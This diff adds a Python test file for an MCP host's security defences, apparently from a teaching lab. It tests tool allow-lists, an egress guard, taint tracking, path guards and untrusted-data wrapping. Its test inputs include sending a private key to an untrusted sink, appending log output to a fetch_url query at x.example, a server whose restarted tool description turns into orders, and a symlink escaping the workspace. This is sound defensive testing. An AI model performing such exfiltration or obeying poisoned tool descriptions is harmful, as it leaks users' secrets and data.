@@ -1,0 +1,126 @@
+"""The defences' principles, each against real servers: fail closed, every automatic check before a person,
+decisions as structured outcomes, taint that follows data, resolved paths, a wrapper truncation cannot cut."""
+
+from __future__ import annotations
+
+import json
+
+import anyio
+from mcp_types import Tool
+
+from labkit.host import Host, LocalTool, LocalToolResult, ServerSpec, ToolCall
+from labkit.lessons import KEY_CANARY, prepare_lab
+from labkit.lessons._security_lab import PRIVATE_KEY, GroundTruth
+from labkit.security import ApprovalDesk, Defences, PathGuard, PinStore, Shield, UntrustedResults
+from labkit.trace import Trace
+from servers.untrusted._ground_truth import untrusted_dir
+
+SINK = ServerSpec("untrusted.sink")
+
+
+def _shield(trace: Trace, defences: Defences, tmp_path, shown: list) -> Shield:
+    def decide(server, tool, arguments):
+        shown.append((server, tool, arguments))
+        return True, "the scripted person said yes to everything it was shown"
+
+    return Shield(trace, defences, lab=prepare_lab(), desk=ApprovalDesk(trace, decide),
+                  pins=PinStore(tmp_path / "pins.json"))
+
+
+def _tool_calls(trace: Trace) -> list[str]:
+    return [e.payload["params"]["name"] for e in trace.of_kind("jsonrpc.request")
+            if e.payload.get("method") == "tools/call"]
+
+
+async def test_a_name_the_host_does_not_list_is_refused_before_any_server_sees_it(tmp_path):
+    trace, shown = Trace(), []
+    with anyio.fail_after(120):
+        async with _shield(trace, Defences.all(), tmp_path, shown).open([SINK]) as host:
+            truth = GroundTruth()
+            result = await host.call("untrusted.sink__delete_everything", {})
+            bare = await host.call("send_message", {"recipient": "a@shop.example", "body": "x"})
+    assert result.is_error and "untrusted.sink__send_message" in result.text
+    assert bare.is_error and not _tool_calls(trace) and not truth.calls() and not shown
+    gates = trace.of_kind("host.gate")
+    assert [(g.meta["outcome"], g.meta["by"]) for g in gates] == [("blocked", "tool list")] * 2
+    assert [e.decision for e in host.audit.entries] == ["blocked", "blocked"]
+
+
+async def test_a_restarted_server_that_stops_listing_a_tool_gets_no_more_calls_to_it(tmp_path):
+    prepare_lab()
+    (untrusted_dir() / "rugpull-description.launches").unlink(missing_ok=True)
+    trace = Trace()
+    rugpull = ServerSpec("untrusted.rugpull", args=("--variant", "description"))
+    with anyio.fail_after(120):
+        async with _shield(trace, Defences.only("scan"), tmp_path, []).open([rugpull]) as host:
+            assert "get_fact_of_the_day" in host.pool.names
+            await host.pool.restart("untrusted.rugpull")  # its second launch turns the description into orders
+            truth = GroundTruth()
+            result = await host.call("get_fact_of_the_day", {})
+    assert "get_fact_of_the_day" not in host.pool.names
+    assert result.is_error and not truth.calls() and "get_fact_of_the_day" not in _tool_calls(trace)
+
+
+async def test_the_egress_guard_stops_a_key_before_a_person_sees_it_or_the_trace_keeps_it(tmp_path):
+    trace, shown = Trace(), []
+    with anyio.fail_after(120):
+        async with _shield(trace, Defences.all(), tmp_path, shown).open([SINK]) as host:
+            truth = GroundTruth()
+            result = await host.call("untrusted.sink__send_message",
+                                     {"recipient": "ops@shop.example", "body": PRIVATE_KEY})
+    assert result.is_error and not shown and not truth.calls()
+    (gate,) = trace.of_kind("host.gate")
+    assert (gate.meta["outcome"], gate.meta["by"]) == ("blocked", "EgressGuard")
+    assert KEY_CANARY not in json.dumps([e.payload for e in trace.of_kind("host.gate", "host.approval")])
+
+
+async def test_the_person_is_shown_the_effective_call_with_the_servers_defaults(tmp_path):
+    trace, shown = Trace(), []
+    with anyio.fail_after(120):
+        async with _shield(trace, Defences.all(), tmp_path, shown).open([SINK]) as host:
+            await host.call("untrusted.sink__send_message", {"recipient": "ops@shop.example", "body": "hello"})
+    ((server, tool, arguments),) = shown
+    assert (server, tool) == ("untrusted.sink", "untrusted.sink__send_message")
+    assert arguments == {"recipient": "ops@shop.example", "body": "hello", "subject": ""}
+    (answer,) = [e for e in trace.of_kind("user.answer") if e.name == tool]
+    assert (answer.meta["outcome"], answer.meta["by"]) == ("approved", "scripted user")
+
+
+async def test_taint_follows_data_not_tool_names(tmp_path):
+    """A trusted result handed to an untrusted tool needs a person's yes; the same call without it does not."""
+    trace, shown = Trace(), []
+    policy_free = Defences.only("taint", "namespace")
+    with anyio.fail_after(120):
+        async with _shield(trace, policy_free, tmp_path, shown).open([ServerSpec("logs"), SINK]) as host:
+            logs = await host.call("logs__query_errors", {"service": "order-service", "since": "2026-10-29T20:00"})
+            await host.call("untrusted.sink__fetch_url", {"url": "https://shop.example/status"})
+            assert not shown
+            await host.call("untrusted.sink__fetch_url", {"url": "https://x.example/?q=" + logs.text[:80]})
+    assert len(shown) == 1 and shown[0][1] == "untrusted.sink__fetch_url"
+    (gate,) = [g for g in trace.of_kind("host.gate") if "to an untrusted server" in json.dumps(g.payload)]
+    assert gate.meta["by"] == "user"
+
+
+async def test_a_link_inside_the_workspace_that_points_out_is_outside(tmp_path):
+    workspace, secret = tmp_path / "workspace", tmp_path / "secret.txt"
+    workspace.mkdir()
+    secret.write_text("key")
+    (workspace / "shortcut").symlink_to(secret)
+    guard = PathGuard(workspace)
+    assert guard.outside("shortcut") and not guard.outside("notes.md")
+    assert await guard.on_call("files", None, "read_file", {"path": "shortcut"})
+
+
+async def test_the_untrusted_wrapper_survives_truncation():
+    trace = Trace()
+    host = Host(trace, [], guards=[UntrustedResults(trace, lambda server: False, b"k")], max_result_chars=50)
+
+    async def long(arguments):
+        return LocalToolResult("x" * 500)
+
+    tool = Tool(name="long", input_schema={"type": "object"}, annotations={"readOnlyHint": True})
+    host.pool.local["long"] = LocalTool(tool, long)
+    await host.pool.refresh()
+    result = await host.router.execute(ToolCall("1", "long", {}))
+    assert result.text.startswith("<untrusted-data") and "</untrusted-data" in result.text
+    assert "[truncated by the host: 50 of 500 characters shown]" in result.text
